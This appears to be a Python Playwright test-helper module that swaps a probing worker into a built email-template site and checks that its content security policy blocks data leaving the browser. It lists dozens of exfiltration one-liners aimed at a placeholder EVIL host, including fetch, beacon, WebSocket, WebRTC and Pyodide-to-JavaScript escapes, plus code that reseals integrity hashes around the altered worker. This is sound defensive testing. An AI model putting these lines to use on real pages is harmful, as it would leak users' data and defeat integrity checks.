"""A site whose worker does what a test tells it: runs any Python, and any of a list of JavaScript attempts.

The pages' policy forbids running text as JavaScript, in tests too, so the attempts are put into the worker's file
beforehand. All else is the built site as it is.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from pathlib import Path
from typing import Any, Final

from playwright.sync_api import Page, Route

from generator.pages.policy import integrity

TEMPLATE: Final = "Subject: To [Name]\n\nDear [Name],\n\n[[About [it]. ]]Bye.\n"


def fill(name: str) -> dict[str, Any]:
    """Return an ordinary request."""
    return {"type": "fill", "template": TEMPLATE, "values": {"Name": name}}


def python(code: str) -> dict[str, Any]:
    """Return a request that only the probing worker knows: run code, reply with its ``value``."""
    return {"python": code}


#: Ways out of a browser, for page and worker alike; EVIL is replaced by another server's address. Each gives a
#: promise; what counts is what arrives over there.
WAYS_OUT: Final = {
    "fetch": "fetch('EVIL/fetch', {mode: 'no-cors', method: 'POST', body: 'secret'})",
    "xhr": "new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'EVIL/xhr'); x.send(); })",
    "websocket": "new Promise((done) => { const w = new WebSocket('EVIL/ws'.replace('http', 'ws')); w.onerror = w.onopen = done; })",
    "eventsource": "new Promise((done) => { const e = new EventSource('EVIL/es'); e.onerror = e.onopen = done; })",
    "import": "import('EVIL/import.mjs')",
    "worker": "new Promise((done) => { const w = new Worker('EVIL/worker.js'); w.onerror = done; })",
    "eval": "eval(\"fetch('EVIL/eval')\")",
    "function": "new Function(\"return fetch('EVIL/function')\")()",
    "timer": "new Promise((done) => { setTimeout(\"fetch('EVIL/timer')\"); setTimeout(done, 300); })",
}
#: What no policy holds back. A script in the page could use it, so the page lets none in; SECURITY.md names each.
NOT_COVERED: Final = {
    "location": "location.href = 'EVIL/location'",
    "meta refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=EVIL/refresh\">')",
    "window.open": "window.open('EVIL/open')",
    "target=_blank": "Object.assign(document.body.appendChild(document.createElement('a')), { href: 'EVIL/blank', target: '_blank' }).click()",
}
PAGE_WAYS_OUT: Final = WAYS_OUT | {
    "webrtc": "(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + 'EVIL'.replace('http://', '') + '?transport=tcp', username: 'a', credential: 'secret' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()",
    "beacon": "Promise.resolve(navigator.sendBeacon('EVIL/beacon', 'secret'))",
    "image": "new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'EVIL/i.png'; })",
    "script": "new Promise((done) => { const s = document.createElement('script'); s.onload = s.onerror = done; s.src = 'EVIL/s.js'; document.head.append(s); })",
    "style": "new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = done; l.href = 'EVIL/s.css'; document.head.append(l); })",
    "frame": "new Promise((done) => { const f = document.createElement('iframe'); f.src = 'EVIL/f.html'; document.body.append(f); setTimeout(done, 500); })",
    "form": "new Promise((done) => { const f = document.createElement('form'); f.action = 'EVIL/form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(done, 500); })",
    "prefetch": "new Promise((done) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'EVIL/p'; document.head.append(l); setTimeout(done, 500); })",
    "blob worker": "new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/blob')\"]))); w.onerror = done; setTimeout(done, 800); })",
}
#: The same from Python. Each line must fail or send nothing.
PYTHON_WAYS_OUT: Final = (
    "import js; js.fetch('EVIL/js')",
    "import pyodide_js; pyodide_js.loadPackage('EVIL/x.whl')",
    "from pyodide.code import run_js; run_js(\"fetch('EVIL/run_js')\")",
    "from pyodide.http import open_url; open_url('EVIL/open_url')",
    "import urllib.request; urllib.request.urlopen('EVIL/urllib')",
    "import _pyodide_core; _pyodide_core.run_js(\"fetch('EVIL/core')\")",
    "import sys; sys.modules['pyodide'].ffi.to_js([]).constructor.constructor(\"fetch('EVIL/ctor')\")()",
    "import socket; socket.create_connection(('127.0.0.1', PORT), 1)",
    "import webbrowser; webbrowser.open('EVIL/webbrowser')",
)

_PROBE: Final = """
  const probe = pyodide.runPython(`
import json
from generator import bridge

def probe(request):
    code = json.loads(request).get("python")
    if code is None:
        return bridge.handle(request)
    space = {}
    try:
        exec(code, space)
    except Exception as error:
        return json.dumps({"type": "error", "name": type(error).__name__, "message": str(error)})
    return json.dumps({"type": "probe", "value": str(space.get("value"))})

probe`);
  const ways = {WAYS};
  return (request) => {
    const { javascript, memory } = JSON.parse(request);
    if (memory) return JSON.stringify({ type: "probe", value: pyodide._module.HEAP8.length });
    if (javascript === undefined) return probe(request);
    // Tried whole and to the end: the reply says only what did not even begin.
    try {
      Promise.resolve(ways[javascript]()).catch(() => {});
    } catch (error) {
      return JSON.stringify({ type: "error", name: error.name, message: String(error) });
    }
    return JSON.stringify({ type: "probe", value: "tried" });
  };
"""


def reseal(site: Path, before: bytes, after: bytes) -> None:
    """Have the pages and the service worker of a built site take a changed file for the right one."""
    pairs = {
        hashlib.sha256(before).hexdigest(): hashlib.sha256(after).hexdigest(),
        integrity(before): integrity(after),
    }
    for path in (*site.rglob("*.html"), site / "offline.mjs"):
        text = path.read_text(encoding="utf-8")
        for old, new in pairs.items():
            text = text.replace(old, new)
        path.write_text(text, encoding="utf-8")


def change_worker(page: Page, old: str, new: str) -> None:
    """Have the pages that are opened from here on run a worker in which ``new`` stands for ``old``."""

    def exchange(route: Route) -> None:
        if route.request.service_worker:  # it may go on when the test is over
            return route.fallback()
        response = route.fetch()
        return route.fulfill(response=response, body=_exchanged(response.text(), old, new))

    def reseal_page(route: Route) -> None:
        if route.request.service_worker:
            return route.fallback()
        response = route.fetch()
        found = re.search(r"worker\.\w+\.mjs", response.text())
        if found is None:
            return route.fulfill(response=response)
        origin = "/".join(response.url.split("/")[:3])
        before = page.context.request.get(f"{origin}/assets/engine/{found[0]}").text()
        right, wrong = (_digest(code) for code in (before, _exchanged(before, old, new)))
        return route.fulfill(response=response, body=response.text().replace(right, wrong))

    page.context.route(re.compile(r"/worker\.\w+\.mjs$"), exchange)
    page.context.route(re.compile(r"/emails/[\w-]+/$"), reseal_page)


def _digest(code: str) -> str:
    return hashlib.sha256(code.encode()).hexdigest()


def _exchanged(code: str, old: str, new: str) -> str:
    assert old in code
    return code.replace(old, new, 1)


def make_probing_site(site: Path, target: Path, evil: str, *, cut_off: bool) -> None:
    """Copy a built site, with a worker that obeys; ``cut_off`` False leaves it the network's means."""
    shutil.copytree(site, target)
    (worker,) = (target / "assets" / "engine").glob("worker.*.mjs")
    before = worker.read_bytes()
    ways = ", ".join(f"{json.dumps(name)}: () => {code}" for name, code in WAYS_OUT.items())
    code = worker.read_text(encoding="utf-8")
    changed = code.replace("  return answer;\n", _PROBE.replace("{WAYS}", f"{{{ways}}}".replace("EVIL", evil)))
    if not cut_off:
        changed = re.sub(r"^ +cutOff\(\);\n", "", changed, flags=re.MULTILINE)
    assert changed != code
    worker.write_text(changed, encoding="utf-8")
    reseal(target, before, worker.read_bytes())


#: Make an engine beside the form's and keep it, with a log of its states.
_MAKE = """async (change) => {
    const script = document.querySelector('script[src*="/email-form.mjs"]').src;
    const { Supervisor } = await import(new URL("../python/supervisor.mjs", script).href);
    const manifest = JSON.parse(document.querySelector("email-form").dataset.form).engine;
    for (const [name, values] of Object.entries(change)) Object.assign(manifest[name], values);
    const engine = new Supervisor(manifest, new URL("../../../engine/", script));
    window.states = [];
    engine.addEventListener("change", () => window.states.push([engine.state, engine.reason].join(" ").trim()));
    window.engine = engine;
}"""


def make_engine(page: Page, change: dict[str, dict[str, Any]] | None = None) -> None:
    """Make an engine on a page that has a form; ``change`` alters entries of its manifest."""
    page.evaluate(_MAKE, change or {})


def ask(page: Page, request: dict[str, Any]) -> Any:
    """Return the engine's reply to one request; an engine that has given up never gives one."""
    return page.evaluate(
        """(request) => Promise.race([
            window.engine.ask(request),
            new Promise((_, reject) => setTimeout(() => reject(new Error("no answer in two minutes")), 120_000)),
        ])""",
        request,
    )


def outcome(page: Page) -> str:
    """Start the engine; return its first lasting state, and the reason if it failed."""
    page.evaluate(
        """() => new Promise((done) => {
            const look = () => ["ready", "failed"].includes(window.engine.state) && done();
            window.engine.addEventListener("change", look);
            window.engine.start();
            look();
        })"""
    )
    return str(page.evaluate("[window.engine.state, window.engine.reason].join(' ').trim()"))
